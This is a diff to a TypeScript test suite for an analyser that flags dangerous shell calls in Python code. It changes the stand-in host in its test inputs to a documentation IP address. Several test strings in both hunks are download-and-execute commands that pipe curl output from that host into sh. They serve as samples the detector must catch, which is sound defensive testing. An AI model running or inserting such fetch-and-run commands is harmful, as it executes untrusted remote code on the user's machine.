@@ -157,7 +157,7 @@ const CASES: readonly (readonly [name: string, kind: string, attack: string, hon
   [
     'a shell string',
     'download-execute',
-    `from os import system as run\nhost = "https://get.some-site.net"\nrun(f"curl -s {host}/i.sh | sh")`,
+    `from os import system as run\nhost = "http://203.0.113.7"\nrun(f"curl -s {host}/i.sh | sh")`,
     `from os import system as run\nrun("ls -la")`,
   ],
   [
@@ -328,14 +328,14 @@ describe('Python', () => {
   })
 
   it('says where, in a snippet that is indented or broken', () => {
-    const text = `    import os\n    os.system("curl https://x.some-site.net/a | sh")\n`
+    const text = `    import os\n    os.system("curl http://203.0.113.7/a | sh")\n`
     expect(
       analysePython(text, shell)
         .filter(({ level }) => level === 'error')
         .map(({ span }) => text.slice(span.start, span.end)),
-    ).toEqual(['"curl https://x.some-site.net/a | sh"'])
-    const broken = `def f(:\n  x = [1, 2\nimport os\nos.system("curl https://x.some-site.net/a | sh"\n`
+    ).toEqual(['"curl http://203.0.113.7/a | sh"'])
+    const broken = `def f(:\n  x = [1, 2\nimport os\nos.system("curl http://203.0.113.7/a | sh"\n`
     expect(() => analysePython(broken, shell)).not.toThrow()
-    expect(errors(analysePython('>>> import os\n>>> os.system("curl https://x.some-site.net/a | sh")\n0\n', shell))).toEqual(['download-execute'])
+    expect(errors(analysePython('>>> import os\n>>> os.system("curl http://203.0.113.7/a | sh")\n0\n', shell))).toEqual(['download-execute'])
   })
 })
